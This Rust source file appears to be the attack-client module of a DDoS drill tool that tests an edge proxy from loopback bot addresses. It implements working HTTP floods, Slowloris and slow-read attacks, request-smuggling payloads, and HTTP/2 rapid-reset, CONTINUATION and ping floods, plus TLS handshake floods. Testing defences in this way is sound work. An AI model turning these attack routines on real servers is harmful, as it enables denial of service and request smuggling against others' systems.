//! The attack clients: each group of bots in a scenario becomes a set of
//! tasks, each bound to bot addresses in 127.0.0.0/8 so that the edge sees
//! many distinct clients. Every loop stops at the drill's deadline or when
//! the drill's request budget is spent.

use crate::scenario::{Attack, Kind};
use crate::stats::{classify, Field, Timeline};
use bytes::BytesMut;
use levee_http::chunked;
use levee_http::h1::{parse_response, Framing, Parsed};
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::Duration;
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::time::Instant;

/// What every attack and legitimate task shares.
pub struct Ctx {
    pub target: SocketAddr,
    /// The Host header to send.
    pub host: String,
    pub timeline: Arc<Timeline>,
    pub start: Instant,
    /// When the attack begins (after the warm-up).
    pub attack_at: Instant,
    pub end: Instant,
    /// Requests (or connections) sent so far, all attack tasks together.
    pub sent: AtomicU64,
    pub max_requests: u64,
    /// Bind bots to 127.x.y.z sources (only when the target is on loopback).
    pub spread_sources: bool,
    /// Inside the drill's IPv6 namespace: bots bind `fd00:1e7e:b::/48` sources instead.
    pub v6_sources: bool,
    /// TLS towards the target (`https://` targets).
    pub tls: Option<(
        tokio_rustls::TlsConnector,
        rustls::pki_types::ServerName<'static>,
    )>,
}

/// A connection to the target, plain or TLS.
pub trait Io: AsyncRead + AsyncWrite + Unpin + Send {}
impl<T: AsyncRead + AsyncWrite + Unpin + Send> Io for T {}

/// Connect and, for `https://` targets, complete the TLS handshake.
pub async fn connect_io(ctx: &Ctx, src: IpAddr) -> std::io::Result<Box<dyn Io>> {
    let s = connect(ctx, src, None).await?;
    match &ctx.tls {
        None => Ok(Box::new(s)),
        Some((c, name)) => {
            let t = tokio::time::timeout(Duration::from_secs(5), c.connect(name.clone(), s))
                .await
                .map_err(|_| {
                    std::io::Error::new(std::io::ErrorKind::TimedOut, "TLS handshake timed out")
                })??;
            Ok(Box::new(t))
        }
    }
}

impl Ctx {
    pub fn sec(&self) -> usize {
        self.start.elapsed().as_secs() as usize
    }
    pub fn running(&self) -> bool {
        Instant::now() < self.end && self.sent.load(Ordering::Relaxed) < self.max_requests
    }
    fn count_sent(&self) {
        self.sent.fetch_add(1, Ordering::Relaxed);
        self.timeline.add(self.sec(), Field::AttackSent, 1);
    }
    fn count(&self, f: Field) {
        self.timeline.add(self.sec(), f, 1);
    }
}

/// The address of bot `i` of attack group `group`: 127.(10+…).x.y, `per_prefix` bots per /24.
pub fn bot_addr(group: usize, i: u32, per_prefix: u32) -> IpAddr {
    let per = per_prefix.clamp(1, 250);
    let prefix = i / per;
    let host = (i % per) + 1;
    let second = 10 + (group as u32 * 24) + prefix / 256;
    IpAddr::V4(Ipv4Addr::new(
        127,
        (second % 200) as u8 + 10,
        (prefix % 256) as u8,
        host as u8,
    ))
}

/// Connect from `src` (when sources are spread) to the target.
pub async fn connect(ctx: &Ctx, src: IpAddr, rcvbuf: Option<u32>) -> std::io::Result<TcpStream> {
    let sock = if ctx.target.is_ipv6() {
        TcpSocket::new_v6()?
    } else {
        TcpSocket::new_v4()?
    };
    if let Some(n) = rcvbuf {
        sock.set_recv_buffer_size(n)?;
    }
    if ctx.v6_sources {
        sock.bind(SocketAddr::new(crate::netns::map_v6(src), 0))?;
    } else if ctx.spread_sources {
        sock.bind(SocketAddr::new(src, 0))?;
    }
    let s = tokio::time::timeout(Duration::from_secs(3), sock.connect(ctx.target))
        .await
        .map_err(|_| std::io::Error::new(std::io::ErrorKind::TimedOut, "connect timed out"))??;
    let _ = s.set_nodelay(true);
    Ok(s)
}

/// Start every task of one attack group.
pub fn spawn(ctx: Arc<Ctx>, group: usize, a: Attack, tasks: &mut Vec<tokio::task::JoinHandle<()>>) {
    let a = Arc::new(a);
    for j in 0..a.connections {
        let ctx = Arc::clone(&ctx);
        let a = Arc::clone(&a);
        tasks.push(tokio::spawn(async move {
            match a.kind {
                Kind::Http => http_bot(&ctx, group, &a, j).await,
                Kind::ConnFlood => conn_flood_bot(&ctx, group, &a, j).await,
                Kind::Slowloris | Kind::SlowPost | Kind::SlowRead => {
                    slow_bot(&ctx, group, &a, j).await
                }
                Kind::Malformed => malformed_bot(&ctx, group, &a, j).await,
                Kind::H2RapidReset | Kind::H2Continuation | Kind::H2PingFlood => {
                    h2_bot(&ctx, group, &a, j).await
                }
                Kind::TlsHandshake => tls_bot(&ctx, group, &a, j).await,
            }
        }));
    }
}

/// A tiny xorshift generator for query strings (not for anything secret).
struct Rng(u64);
impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
}

fn build_request(
    a: &Attack,
    ctx: &Ctx,
    n: u64,
    cookie: &Option<String>,
    redirect: Option<&str>,
    rng: &mut Rng,
    out: &mut Vec<u8>,
) {
    out.clear();
    let path = redirect.unwrap_or(&a.paths[(n as usize) % a.paths.len()]);
    out.extend_from_slice(a.method.as_bytes());
    out.push(b' ');
    out.extend_from_slice(path.as_bytes());
    if a.cache_bust {
        let sep = if path.contains('?') { '&' } else { '?' };
        out.extend_from_slice(format!("{sep}_={:x}", rng.next()).as_bytes());
    }
    out.extend_from_slice(b" HTTP/1.1\r\n");
    let ua = &a.user_agents[(n as usize) % a.user_agents.len()];
    let host = format!("Host: {}\r\n", ctx.host);
    let ua_line = format!("User-Agent: {ua}\r\n");
    if a.ua_before_host {
        out.extend_from_slice(ua_line.as_bytes());
        out.extend_from_slice(host.as_bytes());
    } else {
        out.extend_from_slice(host.as_bytes());
        out.extend_from_slice(ua_line.as_bytes());
    }
    // What Mirai sends: a browser-like Accept.
    out.extend_from_slice(b"Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\r\nAccept-Language: en-US,en;q=0.8\r\nConnection: keep-alive\r\n");
    if let Some(c) = cookie {
        out.extend_from_slice(format!("Cookie: {c}\r\n").as_bytes());
    }
    if !a.body.is_empty() || a.method == "POST" {
        out.extend_from_slice(
            format!(
                "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n",
                a.body.len()
            )
            .as_bytes(),
        );
    }
    out.extend_from_slice(b"\r\n");
    out.extend_from_slice(a.body.as_bytes());
}

/// Read more bytes into `buf`; `None` when the connection ended.
async fn fill<S: AsyncRead + Unpin + ?Sized>(s: &mut S, buf: &mut BytesMut) -> Option<()> {
    buf.reserve(16384);
    match s.read_buf(buf).await {
        Ok(0) | Err(_) => None,
        Ok(_) => Some(()),
    }
}

/// A response as the drill needs it.
pub struct Resp {
    pub status: u16,
    pub keep_alive: bool,
    pub set_cookie: Option<String>,
    pub challenge: bool,
    /// The challenge token of a challenge page.
    pub token: Option<String>,
    /// The path of a same-site redirect (`Location: /x` or an absolute URL's path).
    pub location: Option<String>,
}

/// Read one response (head and body) from `s`; `None` if the connection ended first.
pub async fn read_response<S: AsyncRead + Unpin + ?Sized>(
    s: &mut S,
    buf: &mut BytesMut,
    head_request: bool,
) -> Option<Resp> {
    let head = loop {
        match parse_response(buf, head_request, 64 * 1024) {
            Ok(Parsed::Complete(h)) => break h,
            Ok(Parsed::Partial) => {}
            Err(_) => return None,
        }
        buf.reserve(8192);
        match s.read_buf(buf).await {
            Ok(0) | Err(_) => return None,
            Ok(_) => {}
        }
    };
    let mut set_cookie = None;
    let mut challenge = false;
    let mut location = None;
    let mut token = None;
    for (n, v) in &head.headers {
        let name = &buf[n.clone()];
        if name.eq_ignore_ascii_case(b"location") && (300..400).contains(&head.status) {
            let v = String::from_utf8_lossy(&buf[v.clone()]).into_owned();
            let path = match v.find("://") {
                Some(i) => v[i + 3..].find('/').map(|j| v[i + 3 + j..].to_string()),
                None => v.starts_with('/').then_some(v),
            };
            location = path.filter(|p| p.len() < 2048 && p.bytes().all(|b| b > 0x20 && b < 0x7f));
        } else if name.eq_ignore_ascii_case(b"set-cookie") && set_cookie.is_none() {
            let v = String::from_utf8_lossy(&buf[v.clone()]).into_owned();
            set_cookie = v.split(';').next().map(str::to_string);
        } else if name.eq_ignore_ascii_case(b"x-levee-challenge") {
            challenge = true;
        }
    }
    let _ = buf.split_to(head.len);
    match head.framing {
        Framing::None => {}
        Framing::Length(n) => {
            let mut left = n as usize;
            // A challenge page is kept: a browser-like client solves it.
            let mut keep = (challenge && left <= 64 * 1024).then(|| Vec::with_capacity(left));
            loop {
                let take = left.min(buf.len());
                let chunk = buf.split_to(take);
                if let Some(k) = keep.as_mut() {
                    k.extend_from_slice(&chunk);
                }
                left -= take;
                if left == 0 {
                    break;
                }
                fill(s, buf).await?;
            }
            token = keep.and_then(|k| {
                let text = String::from_utf8_lossy(&k).into_owned();
                let t = text
                    .split("data-token=\"")
                    .nth(1)?
                    .split('"')
                    .next()?
                    .to_string();
                (t.len() < 128).then_some(t)
            });
        }
        Framing::Chunked => {
            let mut d = chunked::Decoder::new();
            loop {
                while !buf.is_empty() && !d.is_done() {
                    let step = d.decode(buf).ok()?;
                    let _ = buf.split_to(step.consumed);
                    if step.consumed == 0 {
                        break;
                    }
                }
                if d.is_done() {
                    break;
                }
                fill(s, buf).await?;
            }
        }
        Framing::Close => {
            while let Ok(n) = s.read_buf(buf).await {
                if n == 0 {
                    break;
                }
                buf.clear();
            }
        }
    }
    Some(Resp {
        status: head.status,
        keep_alive: head.keep_alive && head.framing != Framing::Close,
        set_cookie,
        challenge,
        token,
        location,
    })
}

async fn http_bot(ctx: &Ctx, group: usize, a: &Attack, j: u32) {
    let mut rng = Rng(0x9e37_79b9_7f4a_7c15 ^ (u64::from(j) << 17) ^ group as u64);
    let per_conn_requests = if a.sources > a.connections {
        4
    } else {
        u64::MAX
    };
    let mut bot = j % a.sources;
    let mut out = Vec::with_capacity(512);
    let mut buf = BytesMut::with_capacity(16 * 1024);
    let mut cookie: Option<String> = None;
    let mut redirect: Option<String> = None;
    let pace =
        (a.rate > 0).then(|| Duration::from_secs_f64(f64::from(a.connections) / f64::from(a.rate)));
    let mut n = u64::from(j);
    'conn: while ctx.running() {
        let src = bot_addr(group, bot, a.per_prefix);
        bot = (bot + a.connections) % a.sources;
        let mut s = match connect_io(ctx, src).await {
            Ok(s) => s,
            Err(_) => {
                ctx.count_sent();
                ctx.count(Field::AttackCut);
                tokio::time::sleep(Duration::from_millis(20)).await;
                continue;
            }
        };
        buf.clear();
        let mut on_conn = 0;
        while ctx.running() && on_conn < per_conn_requests {
            let t0 = Instant::now();
            build_request(a, ctx, n, &cookie, redirect.as_deref(), &mut rng, &mut out);
            redirect = None;
            n += 1;
            on_conn += 1;
            ctx.count_sent();
            if s.write_all(&out).await.is_err() {
                ctx.count(Field::AttackCut);
                continue 'conn;
            }
            let r = tokio::time::timeout_at(
                ctx.end + Duration::from_secs(1),
                read_response(&mut s, &mut buf, a.method == "HEAD"),
            )
            .await;
            match r {
                Ok(Some(resp)) => {
                    ctx.count(classify(resp.status, resp.challenge));
                    if a.replay_cookies && resp.set_cookie.is_some() {
                        cookie = resp.set_cookie;
                    }
                    // Bots follow redirects (a challenge page's, say): the next request goes there.
                    if a.follow_redirects {
                        redirect = resp.location;
                    }
                    if !resp.keep_alive {
                        continue 'conn;
                    }
                }
                _ => {
                    ctx.count(Field::AttackCut);
                    continue 'conn;
                }
            }
            if let Some(p) = pace {
                tokio::time::sleep_until(t0 + p).await;
            }
        }
    }
}

/// Open and hold connections; count the edge cutting or refusing them.
async fn conn_flood_bot(ctx: &Ctx, group: usize, a: &Attack, j: u32) {
    let mut bot = j % a.sources;
    while ctx.running() {
        let src = bot_addr(group, bot, a.per_prefix);
        bot = (bot + a.connections) % a.sources;
        ctx.count_sent();
        match connect(ctx, src, None).await {
            Err(_) => ctx.count(Field::AttackCut),
            Ok(mut s) => {
                let mut b = [0u8; 1024];
                match tokio::time::timeout_at(ctx.end, s.read(&mut b)).await {
                    Err(_) => return, // held until the end
                    Ok(Ok(n)) if n > 0 => ctx.count(Field::AttackBlocked),
                    Ok(_) => ctx.count(Field::AttackCut),
                }
            }
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

/// Slowloris, slow POST and slow read: start a request, then dribble.
async fn slow_bot(ctx: &Ctx, group: usize, a: &Attack, j: u32) {
    let mut bot = j % a.sources;
    let path = &a.paths[j as usize % a.paths.len()];
    while ctx.running() {
        let src = bot_addr(group, bot, a.per_prefix);
        bot = (bot + a.connections) % a.sources;
        ctx.count_sent();
        let rcvbuf = (a.kind == Kind::SlowRead).then_some(4096);
        let Ok(mut s) = connect(ctx, src, rcvbuf).await else {
            ctx.count(Field::AttackCut);
            tokio::time::sleep(Duration::from_millis(50)).await;
            continue;
        };
        let head = match a.kind {
            Kind::Slowloris => format!("GET {path} HTTP/1.1\r\nHost: {}\r\nUser-Agent: slowloris\r\n", ctx.host),
            Kind::SlowPost => format!("POST {path} HTTP/1.1\r\nHost: {}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 100000\r\n\r\n", ctx.host),
            _ => format!("GET {path} HTTP/1.1\r\nHost: {}\r\n\r\n", ctx.host),
        };
        if s.write_all(head.as_bytes()).await.is_err() {
            ctx.count(Field::AttackCut);
            continue;
        }
        let mut i = 0u32;
        let outcome = loop {
            if Instant::now() >= ctx.end {
                // Did the edge close it meanwhile? (A slow reader sees the
                // close only after the bytes before it.)
                if closed_by_peer(&mut s).await {
                    ctx.count(Field::AttackCut);
                }
                return;
            }
            tokio::time::sleep(Duration::from_millis(500)).await;
            i += 1;
            let w = match a.kind {
                Kind::Slowloris => s.write_all(format!("X-{i}: {i}\r\n").as_bytes()).await,
                Kind::SlowPost => s.write_all(b"a=bbbbbbbb").await,
                _ => Ok(()),
            };
            if w.is_err() {
                break Field::AttackCut;
            }
            // Read a little: the slow reader's whole point; the others see the edge's answer.
            let mut b = [0u8; 64];
            match tokio::time::timeout(Duration::from_millis(1), s.read(&mut b)).await {
                Ok(Ok(0)) | Ok(Err(_)) => break Field::AttackCut,
                Ok(Ok(n)) if a.kind != Kind::SlowRead => {
                    let text = String::from_utf8_lossy(&b[..n]);
                    let status: u16 = text
                        .split(' ')
                        .nth(1)
                        .and_then(|x| x.parse().ok())
                        .unwrap_or(0);
                    break if status == 0 {
                        Field::AttackCut
                    } else {
                        classify(status, false)
                    };
                }
                _ => {}
            }
        };
        ctx.count(outcome);
    }
}

/// Read whatever is buffered, briefly: whether the peer has closed.
async fn closed_by_peer(s: &mut TcpStream) -> bool {
    let mut b = vec![0u8; 64 * 1024];
    let deadline = Instant::now() + Duration::from_millis(300);
    loop {
        match tokio::time::timeout_at(deadline, s.read(&mut b)).await {
            Ok(Ok(0)) | Ok(Err(_)) => return true,
            Ok(Ok(_)) => {}
            Err(_) => return false,
        }
    }
}

/// The request-smuggling shapes and oversized heads the malformed scenario sends.
pub fn malformed_requests(host: &str) -> Vec<String> {
    vec![
        format!("POST /m HTTP/1.1\r\nHost: {host}\r\nContent-Length: 3\r\nContent-Length: 3\r\n\r\nabc"),
        format!("POST /m HTTP/1.1\r\nHost: {host}\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"),
        format!("POST /m HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: xchunked\r\n\r\n"),
        format!("POST /m HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding : chunked\r\n\r\n"),
        format!("GET /m HTTP/1.1\r\nHost: {host}\r\nX-A: a\r\n folded\r\n\r\n"),
        format!("GET /m HTTP/1.1\nHost: {host}\n\n"),
        format!("GET /m HTTP/1.1\r\nHost: {host}\r\nHost: other\r\n\r\n"),
        format!("GET /{} HTTP/1.1\r\nHost: {host}\r\n\r\n", "a".repeat(10_000)),
        format!("GET /m HTTP/1.1\r\nHost: {host}\r\nX-Big: {}\r\n\r\n", "b".repeat(20_000)),
        format!("POST /m HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nhello\r\n0\r\n\r\n"),
    ]
}

async fn malformed_bot(ctx: &Ctx, group: usize, a: &Attack, j: u32) {
    let shapes = malformed_requests(&ctx.host);
    let mut bot = j % a.sources;
    let mut k = j as usize;
    while ctx.running() {
        let src = bot_addr(group, bot, a.per_prefix);
        bot = (bot + a.connections) % a.sources;
        let req = &shapes[k % shapes.len()];
        k += 1;
        ctx.count_sent();
        let Ok(mut s) = connect(ctx, src, None).await else {
            ctx.count(Field::AttackCut);
            continue;
        };
        if s.write_all(req.as_bytes()).await.is_err() {
            ctx.count(Field::AttackCut);
            continue;
        }
        let mut buf = BytesMut::with_capacity(4096);
        match tokio::time::timeout(
            Duration::from_secs(3),
            read_response(&mut s, &mut buf, false),
        )
        .await
        {
            Ok(Some(r)) => ctx.count(classify(r.status, r.challenge)),
            _ => ctx.count(Field::AttackCut),
        }
    }
}

fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let len = payload.len() as u32;
    out.extend_from_slice(&[(len >> 16) as u8, (len >> 8) as u8, len as u8, kind, flags]);
    out.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    out.extend_from_slice(payload);
}

/// An HPACK block of literal fields (no indexing, no Huffman).
fn hpack_block(host: &str, path: &str) -> Vec<u8> {
    let mut b = Vec::new();
    for (n, v) in [
        (":method", "GET"),
        (":scheme", "http"),
        (":path", path),
        (":authority", host),
    ] {
        b.push(0x00);
        b.push(n.len() as u8);
        b.extend_from_slice(n.as_bytes());
        b.push(v.len().min(127) as u8);
        b.extend_from_slice(&v.as_bytes()[..v.len().min(127)]);
    }
    b
}

/// What the edge answered on an HTTP/2 connection, read without waiting.
enum H2Seen {
    Nothing,
    GoAway(u32),
    Closed,
}

fn scan_goaway(buf: &mut Vec<u8>) -> Option<u32> {
    while buf.len() >= 9 {
        let len = ((buf[0] as usize) << 16) | ((buf[1] as usize) << 8) | buf[2] as usize;
        if buf.len() < 9 + len {
            return None;
        }
        if buf[3] == 0x7 && len >= 8 {
            return Some(u32::from_be_bytes([buf[13], buf[14], buf[15], buf[16]]));
        }
        buf.drain(..9 + len);
    }
    None
}

async fn h2_poll(s: &mut TcpStream, buf: &mut Vec<u8>) -> H2Seen {
    let mut tmp = [0u8; 16384];
    loop {
        match s.try_read(&mut tmp) {
            Ok(0) => return H2Seen::Closed,
            Ok(n) => {
                buf.extend_from_slice(&tmp[..n]);
                if let Some(code) = scan_goaway(buf) {
                    return H2Seen::GoAway(code);
                }
                if buf.len() > 1 << 20 {
                    buf.clear();
                }
            }
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => return H2Seen::Nothing,
            Err(_) => return H2Seen::Closed,
        }
    }
}

/// HTTP/2 floods over h2c: batches of frames; the edge's GOAWAY counts as blocked.
async fn h2_bot(ctx: &Ctx, group: usize, a: &Attack, j: u32) {
    let mut bot = j % a.sources;
    let path = &a.paths[j as usize % a.paths.len()];
    let block = hpack_block(&ctx.host, path);
    'conn: while ctx.running() {
        let src = bot_addr(group, bot, a.per_prefix);
        bot = (bot + a.connections) % a.sources;
        let Ok(mut s) = connect(ctx, src, None).await else {
            ctx.count_sent();
            ctx.count(Field::AttackCut);
            tokio::time::sleep(Duration::from_millis(50)).await;
            continue;
        };
        let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
        frame(&mut out, 0x4, 0, 0, &[]);
        if s.write_all(&out).await.is_err() {
            continue;
        }
        let mut stream_id: u32 = 1;
        let mut inbox = Vec::new();
        let mut started_block = false;
        while ctx.running() {
            out.clear();
            let mut n = 0;
            for _ in 0..50 {
                match a.kind {
                    Kind::H2RapidReset => {
                        frame(&mut out, 0x1, 0x4 | 0x1, stream_id, &block);
                        frame(&mut out, 0x3, 0, stream_id, &8u32.to_be_bytes());
                        stream_id = stream_id.wrapping_add(2) & 0x7fff_ffff;
                    }
                    Kind::H2Continuation => {
                        if !started_block {
                            frame(&mut out, 0x1, 0x1, stream_id, &block[..block.len() / 2]);
                            started_block = true;
                        }
                        frame(&mut out, 0x9, 0, stream_id, &[0x00]);
                    }
                    _ => frame(&mut out, 0x6, 0, 0, &(u64::from(j) << 32 | n).to_be_bytes()),
                }
                n += 1;
            }
            for _ in 0..n {
                ctx.count_sent();
            }
            if s.write_all(&out).await.is_err() {
                ctx.count(Field::AttackCut);
                continue 'conn;
            }
            match h2_poll(&mut s, &mut inbox).await {
                H2Seen::GoAway(code) => {
                    // An error code (ENHANCE_YOUR_CALM, PROTOCOL_ERROR) is the
                    // edge refusing the flood; NO_ERROR is a graceful close.
                    ctx.count(if code == 0 {
                        Field::AttackCut
                    } else {
                        Field::AttackBlocked
                    });
                    continue 'conn;
                }
                H2Seen::Closed => {
                    ctx.count(Field::AttackCut);
                    continue 'conn;
                }
                H2Seen::Nothing => {}
            }
            if a.rate > 0 {
                tokio::time::sleep(Duration::from_secs_f64(
                    50.0 * f64::from(a.connections) / f64::from(a.rate),
                ))
                .await;
            } else {
                tokio::task::yield_now().await;
            }
        }
    }
}

/// Full TLS handshakes, one after another, each on a new connection.
async fn tls_bot(ctx: &Ctx, group: usize, a: &Attack, j: u32) {
    let mut bot = j % a.sources;
    while ctx.running() {
        let src = bot_addr(group, bot, a.per_prefix);
        bot = (bot + a.connections) % a.sources;
        ctx.count_sent();
        match connect_io(ctx, src).await {
            // The edge paid for a whole handshake.
            Ok(mut s) => {
                ctx.count(Field::AttackPassed);
                let _ = s.shutdown().await;
            }
            Err(_) => ctx.count(Field::AttackCut),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bots_spread_over_prefixes() {
        assert_eq!(bot_addr(0, 0, 16), "127.20.0.1".parse::<IpAddr>().unwrap());
        assert_eq!(
            bot_addr(0, 15, 16),
            "127.20.0.16".parse::<IpAddr>().unwrap()
        );
        assert_eq!(bot_addr(0, 16, 16), "127.20.1.1".parse::<IpAddr>().unwrap());
        let mut all: Vec<IpAddr> = (0..4000).map(|i| bot_addr(1, i, 16)).collect();
        all.sort();
        all.dedup();
        assert_eq!(all.len(), 4000);
    }
}
